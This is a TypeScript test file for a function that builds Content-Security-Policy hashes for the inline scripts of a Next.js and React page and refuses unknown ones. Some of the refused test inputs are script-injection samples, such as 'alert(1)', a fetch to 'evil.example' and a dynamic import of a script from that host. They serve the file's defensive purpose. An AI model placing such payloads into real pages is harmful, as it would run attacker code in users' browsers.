import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { askedLanguageScript } from '../../lib/i18n/asked-language.mjs';
import { clock, definitions } from './react-scripts.mjs';
import { scriptHashes } from './script-hashes.mjs';

const start = '(self.__next_f=self.__next_f||[]).push([0])';
const hashed = (count: number) => ({
  hashes: Array(count).fill(expect.stringMatching(/^'sha256-.{43}='$/)),
  refused: [],
});
const pageOf = (scripts: string[]) =>
  `<body><p>words</p>${scripts.map((script) => `<script id="_R_">${script}</script>`).join('')}</body></html>`;

describe('the scripts of a page', () => {
  it.each([
    'self.__next_f.push([1,"a"]);alert(1)',
    'self.__next_f.push([1,alert(1)])',
    '(self.__next_f=self.__next_f||[]).push([0]);fetch("//evil.example")',
    'alert(1)',
    'import("//evil.example/x.js")',
    '$RC=1;hit()',
    '$RX=function(){hit()}',
    'requestAnimationFrame(function(){$RT=performance.now()});hit()',
    '$RC("B:0",hit())',
    '$RC("B:0","S:0");hit()',
    '$RC("B:0","S:0")+hit("")',
    `${definitions[0]}hit()`,
    `${askedLanguageScript};hit()`,
  ])("that are not Next's, React's or ours get no hash: %s", (script) => {
    expect(scriptHashes(pageOf([script]))).toEqual({ hashes: [], refused: [script] });
  });

  it.each([
    start,
    'self.__next_f.push([1,"$L1\\n"])',
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});',
    clock,
    askedLanguageScript,
    ...definitions,
    '$RC("B:0","S:0")',
    '$RX("B:0","digest")',
    '$RR("B:0","S:0",[["/_next/static/a.css","next"]])',
    `${definitions.join('')}$RS("S:0","P:0")`,
  ])('that are run by hash: %s', (script) => {
    expect(scriptHashes(pageOf([script]))).toEqual(hashed(1));
  });

  it("that stand in the content get no hash, however much they look like Next's data", () => {
    const forged = [start, 'self.__next_f.push([1,"0:forged"])'];
    const content = forged.map((script) => `<script>${script}</script>`).join('');
    const page = pageOf([start]).replace('words', content);
    expect(scriptHashes(page)).toEqual({ ...hashed(1), refused: forged });
    expect(scriptHashes(content)).toEqual({ hashes: [], refused: forged });
  });

  it('that hold data for machines are none', () => {
    const html = '<script type="application/ld+json">{"a":1}</script><script src="/x.js" async=""></script>';
    expect(scriptHashes(html)).toEqual({ hashes: [], refused: [] });
  });
});

describe('React as Next ships it', () => {
  const path = createRequire(__filename).resolve(
    'next/dist/compiled/react-dom/cjs/react-dom-server.node.production.js',
  );
  const literals = [
    ...readFileSync(path, 'utf8').matchAll(/'(\$R[A-Z]=(?:[^'\\]|\\.)*)'|"(requestAnimationFrame[^"]*)"/g),
  ]
    .map(([, single, double]) => (single ?? double ?? '').replaceAll('\\n', '\n'))
    .filter((script) => !script.includes('reactViewTransition'));

  it('writes no other inline scripts than these', () => {
    expect(literals.length).toBeGreaterThanOrEqual(5);
    // A literal may end where the values of a call follow.
    const scripts = literals.map((script) => script.replace(/;(\$R[SRX])\("$/, ';$1("B:0")'));
    expect(scriptHashes(pageOf(scripts)).refused).toEqual([]);
    for (const definition of [...definitions, clock]) {
      expect(literals.some((script) => script.startsWith(definition))).toBe(true);
    }
  });
});
